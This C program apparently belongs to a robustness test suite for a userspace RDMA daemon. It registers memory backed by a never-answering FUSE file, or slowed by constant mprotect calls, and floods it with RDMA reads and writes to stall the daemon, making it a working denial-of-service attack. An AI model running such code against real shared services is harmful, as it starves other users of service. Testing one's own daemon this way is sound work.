/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Registers memory that the daemon can't map, and has it read and written all the time, by QPs connected to each other in this process:
 *
 *   never     a file of a FUSE server that never answers: a page fault there never ends
 *   mprotect  a private mapping, while another thread changes a large mapping again and again, for which page faults wait
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>

#include "stuck.h"
#include "vt.h"

enum { QPS = 16, BYTES = 64 << 10, RUNS = 20 };
#define LARGE_BYTES (UINT64_C(1) << 30)

static void *
change(void *arg)
{
	uint8_t *large = mmap(NULL, LARGE_BYTES, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);

	if (large == MAP_FAILED)
		attack_die("mmap");
	madvise(large, LARGE_BYTES, MADV_NOHUGEPAGE);
	/* Every page table there is, with one page in each. */
	for (uint64_t at = 0; at < LARGE_BYTES; at += 64 << 10)
		large[at] = 1;
	for (;;) {
		mprotect(large, LARGE_BYTES, PROT_READ);
		mprotect(large, LARGE_BYTES, PROT_READ | PROT_WRITE);
	}
	return NULL;
}

static void *
private_memory(void)
{
	char name[] = "/tmp/uroce-slow-XXXXXX";
	int fd = mkstemp(name);
	pthread_t thread;
	void *p;

	if (fd < 0 || ftruncate(fd, STUCK_BYTES) != 0)
		attack_die("a file");
	unlink(name);
	p = mmap(NULL, STUCK_BYTES, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
	if (p == MAP_FAILED || pthread_create(&thread, NULL, change, NULL) != 0)
		attack_die("mmap");
	return p;
}

struct pair {
	struct ibv_cq *cq;
	struct ibv_qp *qp[2];
	bool write;
};

static void
connect_pair(struct vt *t, struct pair *p)
{
	struct ibv_qp_attr reset = { .qp_state = IBV_QPS_RESET };

	for (int i = 0; i < 2; i++)
		if (ibv_modify_qp(p->qp[i], &reset, IBV_QP_STATE) != 0)
			attack_die("RESET");
	for (int i = 0; i < 2; i++)
		vt_connect(t, p->qp[i], p->qp[!i]);
}

/* Half of them read that memory to send it, the others have it written. */
static void
post(struct vt *t, struct pair *p, struct ibv_mr *slow)
{
	struct ibv_sge sge = { .addr = (uintptr_t)(p->write ? t->buf : slow->addr), .length = BYTES / 2,
			       .lkey = p->write ? t->mr->lkey : slow->lkey };
	struct ibv_send_wr *bad, wr = { .sg_list = &sge, .num_sge = 1, .opcode = IBV_WR_RDMA_WRITE, .send_flags = IBV_SEND_SIGNALED };

	wr.wr.rdma.remote_addr = (uintptr_t)(p->write ? (uint8_t *)slow->addr : t->buf + BYTES / 2);
	wr.wr.rdma.rkey = p->write ? slow->rkey : t->mr->rkey;
	if (ibv_post_send(p->qp[0], &wr, &bad) != 0)
		attack_die("post");
}

int
main(int argc, char **argv)
{
	const int all = IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ;
	static struct pair pairs[QPS];
	struct vt t = { 0 };
	struct ibv_mr *slow;
	struct ibv_wc wc;
	void *memory;

	if (argc != 2)
		attack_die("usage: slow never|mprotect");
	if (strcmp(argv[1], "never") == 0) {
		stuck_mount();
		memory = stuck_memory();
		vt_begin(&t);
	} else {
		vt_begin(&t);
		memory = private_memory();
	}
	slow = ibv_reg_mr(t.pd, memory, STUCK_BYTES, all);
	if (slow == NULL)
		attack_die("ibv_reg_mr");
	for (int i = 0; i < QPS; i++) {
		pairs[i].cq = vt_cq(&t, 4 * VT_DEPTH, NULL);
		pairs[i].write = i % 2 == 0;
		for (int k = 0; k < 2; k++)
			pairs[i].qp[k] = vt_qp(&t, IBV_QPT_RC, pairs[i].cq, pairs[i].cq);
		connect_pair(&t, &pairs[i]);
		for (int k = 0; k < RUNS; k++)
			post(&t, &pairs[i], slow);
	}
	sleep(1);
	attack_begun();
	for (;;) {
		bool any = false;

		for (int i = 0; i < QPS; i++) {
			if (ibv_poll_cq(pairs[i].cq, 1, &wc) <= 0)
				continue;
			any = true;
			if (wc.status == IBV_WC_SUCCESS) {
				post(&t, &pairs[i], slow);
				continue;
			}
			while (ibv_poll_cq(pairs[i].cq, 1, &wc) > 0)
				;
			connect_pair(&t, &pairs[i]);
			for (int k = 0; k < RUNS; k++)
				post(&t, &pairs[i], slow);
		}
		if (!any)
			usleep(100);
	}
}
